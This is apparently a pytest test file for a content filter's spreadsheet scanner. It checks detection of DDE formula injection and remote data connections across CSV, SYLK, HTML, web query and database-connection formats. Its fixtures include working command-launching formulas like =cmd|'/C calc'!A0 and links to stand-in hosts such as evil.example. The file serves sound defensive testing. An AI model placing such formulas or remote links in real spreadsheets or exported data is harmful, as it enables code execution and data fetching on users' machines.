"""Tables as text, also such as are made to be slow to search."""

from __future__ import annotations

import pytest

from contentfilter.content.limits import Budget, ScanOptions
from contentfilter.content.part import Context, Part
from contentfilter.scanners.sheet_text import SheetText

FORMULA = b"=cmd|'/C calc'!A0"


def found(data: bytes) -> list[str]:
    part = Part("1/table.csv", data)
    return [item.name for item in SheetText().scan(part, Context(part, Budget(ScanOptions())))]  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "before", [b"", b"\xef\xbb\xbf", b"a,b,", b'"', b"a|b!c,", b"x|\n", b"\x01\x02\xff\n", b"|" * 300 + b"\n"]
)
@pytest.mark.parametrize(
    "formula",
    [
        FORMULA,
        b"=cmd|calc!A1",
        b"@SUM(1+1)*cmd|'x'!'y'",
        b'"=SUM(1,1)+cmd|x!y',
        b"+-=  = cmd|'x'!A1",
        b'="DDE|x!y',
        b"-A" + b"z" * 59 + b"|x!y",
    ],
)
def test_a_formula_is_found_wherever_a_field_begins(before: bytes, formula: bytes) -> None:
    assert found(before + formula + b"\n|\n") == ["office-dde"]


def test_a_file_made_of_links_is_searched_so_far_and_no_further() -> None:
    link = b"a|b!c,\n"
    assert found(link * 99_999 + FORMULA) == ["office-dde"]
    part = Part("1/table.csv", link * 100_001)
    scan = SheetText().scan(part, Context(part, Budget(ScanOptions())))
    assert list(scan) == [part.unscanned("too-large", "links in a table")]


@pytest.mark.parametrize(
    "text",
    [b"a=cmd|'/C calc'!A0", b"x|y", b"=1+2", b"=a|b", b"| a | b! |", b"=cmd|'x'\n!A0"],
)
def test_other_text_is_no_formula(text: bytes) -> None:
    assert found(text) == []


@pytest.mark.parametrize(
    "octets",
    [b"\x8f\xb4\r=lo|\xf1\x1en\xd3\xbe4\xe5~\xf1!Q\x07", b"\xb4,-H|:\xa9sy\xd4!f\x00", b"\n+Qx|\x01j!f"],
)
def test_octets_that_are_no_text_are_no_formula(octets: bytes) -> None:
    """As they stand in every other encrypted or compressed file of some megabytes."""
    assert found(b"x" * 256 + octets) == []


def test_text_is_searched_to_its_end_and_other_octets_so_far() -> None:
    assert found(b"|" * (4 << 20) + b"\n" + FORMULA) == ["office-dde"]
    assert found(b"\x01" * 300 + b"|" * (4 << 20) + b"\n" + FORMULA) == []


@pytest.mark.parametrize(
    "text",
    [
        b"<table><tr><td>=cmd|&#39;/C calc&#39;!A0</td></tr></table>",
        b"<td x:fmla=\"=cmd|'/C calc'!A0\">",
        "a\t=cmd|'/C calc'!A0\r\n".encode("utf-16"),
        b"@SUM(1,2,cmd|'/C calc'!A0)",
        b'"=DDE(""cmd"";""/C calc"";""x"")"',
        b"a;=dde('cmd','/C calc','x')",
    ],
)
def test_formulas_in_other_tables(text: bytes) -> None:
    assert found(text) == ["office-dde"]


def test_a_web_query_fetches_from_elsewhere() -> None:
    assert found(b"WEB\r\n1\r\nhttps://evil.example/q.dat\r\n") == ["office-remote-template"]
    assert found(b"WEB\r\n1\r\nC:\\q.htm\r\n") == found(b"WEB 1\r\nhttps://evil.example/\r\n") == []


@pytest.mark.parametrize("name", [b"DDE", b"dde", b"Dde"])
@pytest.mark.parametrize("before", [0, 1, (1 << 20) - 6, (1 << 20) - 1, 1 << 20, (3 << 20) + 7])
def test_the_function_is_found_in_any_case_and_place(name: bytes, before: int) -> None:
    """The text is looked through in pieces of a MiB; none of it lies between two."""
    assert found(b"x" * before + b"\n=" + name + b'("cmd";"/C calc")') == ["office-dde"]
    assert found(b"x" * before + b"\n" + name + b'("cmd";"/C calc")') == []


@pytest.mark.parametrize(
    ("cell", "names"),
    [
        (b"C;Y1;X1;K0;EMSEXCEL|'\\..\\cmd'!A0", ["office-dde"]),
        (b"C;Y1;X1;K0;emsexcel|x!A0", ["office-dde"]),
        (b'C;Y1;X1;K"a;;b";Ecmd|x!A0', ["office-dde"]),
        (b'C;Y1;X1;K"a;;";Ecmd|x!A0', ["office-dde"]),
        (b'C;Y1;X1;K"a;;;;";;;Ecmd|x!A0', ["office-dde"]),
        # A semicolon of a text is written twice.
        (b'C;Y1;X1;K"per kg;;Euro|sheet!A1"', []),
        (b'C;Y1;X1;K";;;;e|sheet!A1"', []),
    ],
)
def test_links_in_sylk(cell: bytes, names: list[str]) -> None:
    assert found(b"ID;PWXL;N;E\r\n" + cell + b"\r\nE\r\n") == names


ODC = (
    b'<html xmlns:o="x"><head><xml id=msodc><odc:OfficeDataConnection xmlns:odc="x"><odc:ConnectionString>%s'
)


@pytest.mark.parametrize("source", [b"sql.evil.example", b"192.0.2.1,1433", b"http://evil.example/x"])
@pytest.mark.parametrize(
    "form",
    [
        b"[oledb]\r\n; Everything after is initstring\r\nProvider=SQLOLEDB;Data Source=%s;User ID=x",
        b"QueryType=OLEDB\r\nVersion=1\r\nConnection=Provider=MSOLAP; Data Source=%s\r\n",
        b"XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=%s;UID=x\r\nSELECT 1\r\n",
        ODC % b"Provider=x;Data Source=%s;",
    ],
)  # fmt: skip
def test_connection_to_a_database_elsewhere(form: bytes, source: bytes) -> None:
    data = form % source
    assert found(data) == found(data.decode().encode("utf-16")) == ["office-remote-template"]
    assert found(b"A text: " + data) == []


@pytest.mark.parametrize(
    "source", [b".", b"(local)", b"localhost\\SQLEXPRESS", b"C:\\data\\a.accdb", b"$Workbook$", b""]
)
def test_connection_to_a_database_here(source: bytes) -> None:
    assert found(ODC % b"Provider=x;Data Source=%s;" % source) == []
